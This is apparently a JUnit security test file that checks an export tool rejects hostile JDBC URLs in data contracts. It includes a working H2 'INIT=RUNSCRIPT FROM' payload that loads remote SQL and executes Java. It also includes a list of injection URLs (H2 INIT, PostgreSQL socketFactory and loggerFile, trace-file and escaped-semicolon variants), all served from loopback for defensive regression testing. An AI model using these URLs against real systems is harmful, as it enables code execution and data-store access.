package dev.exportdesk.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.sun.net.httpserver.HttpServer;
import dev.exportdesk.access.AccessDeniedException;
import dev.exportdesk.access.GuardedEngine;
import dev.exportdesk.access.Role;
import dev.exportdesk.contract.ContractValidationException;
import dev.exportdesk.demo.DemoContracts;
import dev.exportdesk.source.SourceConnection;
import dev.exportdesk.store.AuditEntry;
import dev.exportdesk.testing.CliRun;
import dev.exportdesk.testing.Contracts;
import dev.exportdesk.testing.SourceDb;
import dev.exportdesk.ui.ConsoleFixture;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Threat: a contract author (steward) runs code on the host or reaches the state store through the
 * source's JDBC URL, or points a contract at a source of their choosing. Each attack must fail
 * before any driver sees the URL: the payload's server gets no request, its marker file never
 * appears, and no connection is created or changed.
 */
class SourceConnectionAttackTest {
    @TempDir
    Path dir;
    private HttpServer http;
    private final AtomicInteger fetched = new AtomicInteger();
    private Path marker;
    private String scriptUrl;

    @BeforeEach
    void serveAPayload() throws Exception {
        marker = dir.resolve("pwned");
        byte[] script = ("CREATE ALIAS PWN AS 'String p(String f) throws Exception { java.nio.file.Files.createFile("
                + "java.nio.file.Path.of(f)); return f; }'; CALL PWN('" + marker + "');")
                .getBytes(StandardCharsets.UTF_8);
        http = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        http.createContext("/", ex -> {
            fetched.incrementAndGet();
            ex.sendResponseHeaders(200, script.length);
            ex.getResponseBody().write(script);
            ex.close();
        });
        http.start();
        scriptUrl = "http://127.0.0.1:" + http.getAddress().getPort() + "/init.sql";
    }

    @AfterEach
    void stop() {
        http.stop(0);
    }

    private List<String> hostileUrls() {
        String victim = dir.resolve("victim").toAbsolutePath().toString();
        return List.of(
                "jdbc:h2:file:" + victim + ";INIT=RUNSCRIPT FROM '" + scriptUrl + "'",
                "jdbc:h2:file:" + victim + ";init=runscript from '" + scriptUrl + "'",
                "jdbc:h2:file:" + victim + "; INIT =RUNSCRIPT FROM '" + scriptUrl + "'",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '" + scriptUrl + "'",
                "jdbc:h2:file:" + victim + ";MODE=PostgreSQL;INIT=CREATE ALIAS X AS 'int x(){return 1;}'",
                "jdbc:h2:zip:" + victim + ".zip!/db",
                "jdbc:h2:file:" + victim + ";TRACE_LEVEL_FILE=3;TRACE_FILE=" + dir.resolve("trace"),
                "jdbc:postgresql://127.0.0.1:1/db?socketFactory=org.h2.util.Utils&socketFactoryArg=" + scriptUrl,
                "jdbc:postgresql://127.0.0.1:1/db?loggerFile=" + dir.resolve("log"),
                "jdbc:sqlite:" + victim,
                "jdbc:h2:file:" + victim + ";MODE=\\;INIT=RUNSCRIPT FROM '" + scriptUrl + "'");
    }

    /** The control: the payload is live when a URL reaches the driver unchecked, so the tests below can fail. */
    @Test
    void thePayloadRunsWhenTheDriverSeesTheUrl() throws Exception {
        Path other = dir.resolve("control");
        try (Connection c = DriverManager.getConnection("jdbc:h2:file:" + other + ";INIT=RUNSCRIPT FROM '"
                + scriptUrl + "'", "sa", "")) {
            assertThat(c.isValid(1)).isTrue();
        }
        assertThat(fetched.get()).isEqualTo(1);
        assertThat(marker).exists();
    }

    @Test
    void aHostileUrlInAContractIsRefusedBeforeAnyDriverSeesIt() throws Exception {
        CliRun cli = new CliRun(dir.resolve("ws"));
        int i = 0;
        for (String url : hostileUrls()) {
            ObjectNode contract = Contracts.base("c" + i, SourceDb.h2(dir.resolve("src" + i)), "orders",
                    dir.resolve("drop"));
            ((ObjectNode) contract.get("source")).put("name", "evil" + i).put("jdbc_url", url);
            Path file = dir.resolve("c" + i++ + ".json");
            Files.writeString(file, contract.toString());
            for (String[] args : List.of(new String[] {"contract", "validate", file.toString()},
                    new String[] {"contract", "import", file.toString()})) {
                CliRun.Result r = cli.run(args);
                assertThat(r.code()).as(url + "\n" + r.all()).isEqualTo(3);
                assertThat(r.err()).contains("$.source.jdbc_url").doesNotContain("Exception", "\tat ");
            }
            CliRun.Result added = cli.run("source", "add", "evil", "--jdbc-url", url, "--user", "reader");
            assertThat(added.code()).as(url + "\n" + added.all()).isEqualTo(3);
            assertThat(added.err()).contains("jdbc_url");
        }
        assertThat(fetched.get()).as("requests the payload server received").isZero();
        assertThat(marker).doesNotExist();
        assertThat(dir.resolve("victim.mv.db")).doesNotExist();
        assertThat(dir.resolve("trace.trace.db")).doesNotExist();
        assertThat(cli.run("source", "list").out()).contains("no source connections");
    }

    @Test
    void aConnectionStoredBeforeThePolicyIsCheckedAgainAtEveryOpen() throws Exception {
        SourceDb db = SourceDb.h2(dir.resolve("src"));
        db.exec("CREATE TABLE orders (id BIGINT PRIMARY KEY, updated_at TIMESTAMP WITH TIME ZONE NOT NULL)");
        CliRun cli = new CliRun(dir.resolve("ws"));
        Path file = dir.resolve("c.json");
        Files.writeString(file, Contracts.base("c", db, "orders", dir.resolve("drop")).toString());
        assertThat(cli.run("contract", "import", file.toString()).code()).isZero();
        // an older version stored whatever URL a contract carried: rewrite it behind the engine's back
        try (var ws = dev.exportdesk.store.Workspace.open(dir.resolve("ws"))) {
            ws.store().update(c -> ws.store().sources().update(c, new dev.exportdesk.store.SourceRecord("src-h2",
                    hostileUrls().get(0), "reader", null, null), "old version", java.time.Instant.now()));
        }
        CliRun.Result run = cli.run("run", "c", "-q");
        assertThat(run.code()).as(run.all()).isNotZero();
        assertThat(run.err()).contains("jdbc_url").contains("INIT");
        assertThat(fetched.get()).isZero();
        assertThat(marker).doesNotExist();
    }

    @Test
    void theStateStoreIsNeitherNamedAsASourceNorOpenableWithoutTheWorkspacePassword() throws Exception {
        Path ws = dir.resolve("ws");
        CliRun cli = new CliRun(ws);
        assertThat(cli.run("source", "list").code()).isZero();
        Path store = ws.resolve("state").resolve("exportdesk");
        Path link = Files.createSymbolicLink(dir.resolve("innocent"), ws.resolve("state"));
        for (String url : List.of("jdbc:h2:file:" + store, "jdbc:h2:" + store, "jdbc:h2:file:" + link.resolve("exportdesk"),
                "jdbc:h2:file:" + ws.resolve("state/../state/exportdesk"), "jdbc:h2:file:" + ws.resolve("logs/x"))) {
            CliRun.Result r = cli.run("source", "add", "store", "--jdbc-url", url, "--user", "sa");
            assertThat(r.code()).as(url + "\n" + r.all()).isEqualTo(3);
            assertThat(r.err()).contains("inside the ExportDesk workspace");
        }
        assertThatThrownBy(() -> DriverManager.getConnection("jdbc:h2:file:" + store + ";IFEXISTS=TRUE", "sa", "")
                .close()).isInstanceOf(SQLException.class).hasMessageContaining("Wrong user name or password");
        assertThat(Files.getPosixFilePermissions(ws.resolve("state").resolve("store.password")))
                .containsExactlyInAnyOrder(java.nio.file.attribute.PosixFilePermission.OWNER_READ,
                        java.nio.file.attribute.PosixFilePermission.OWNER_WRITE);
        String password = Files.readString(ws.resolve("state").resolve("store.password")).trim();
        assertThat(password).hasSizeGreaterThanOrEqualTo(32);
    }

    @Test
    void aStewardNeitherDefinesNorRepointsASource() throws Exception {
        try (ConsoleFixture fixture = ConsoleFixture.open(dir.resolve("console"), 50)) {
            GuardedEngine steward = fixture.engine(fixture.user("stella", Role.STEWARD));
            List<SourceConnection> before = steward.sourceConnections().sources();
            int auditBefore = sourceAudits(fixture);

            Path other = dir.resolve("elsewhere");
            SourceDb.h2(other).exec("CREATE TABLE orders (id BIGINT PRIMARY KEY)");
            for (String[] source : new String[][] {{"new-src", "jdbc:h2:file:" + other.resolve("source")},
                    {DemoContracts.SOURCE, "jdbc:h2:file:" + other.resolve("source")}}) {
                String json = DemoContracts.orders(fixture.drop).replace("\"source\": \"demo-shop\"",
                        "\"source\": {\"name\": \"" + source[0] + "\", \"jdbc_url\": \"" + source[1]
                                + "\", \"user\": \"reader\"}");
                assertThatThrownBy(() -> steward.importContract(json, "evil.json"))
                        .isInstanceOf(ContractValidationException.class).hasMessageContaining("$.source");
            }
            assertThatThrownBy(() -> steward.sourceConnections().addSource(new SourceConnection("mine", "jdbc:h2:file:" + other, "reader",
                    null, null))).isInstanceOf(AccessDeniedException.class);
            assertThatThrownBy(() -> steward.sourceConnections().changeSource(new SourceConnection(DemoContracts.SOURCE, "jdbc:h2:file:"
                    + other, "reader", null, null))).isInstanceOf(AccessDeniedException.class);

            assertThat(steward.sourceConnections().sources()).isEqualTo(before);
            assertThat(sourceAudits(fixture)).isEqualTo(auditBefore);
            // what a steward may do: name the connection an administrator made
            assertThat(steward.importContract(DemoContracts.orders(fixture.drop).replace("orders-to-acme",
                    "orders-again"), "ok.json").changed()).isTrue();
        }
    }

    private static int sourceAudits(ConsoleFixture fixture) {
        return (int) fixture.workspace.store().inTransaction(c -> fixture.workspace.store().audit().recent(c, 10_000))
                .stream().map(AuditEntry::action).filter(a -> a.startsWith("source.")).count();
    }
}
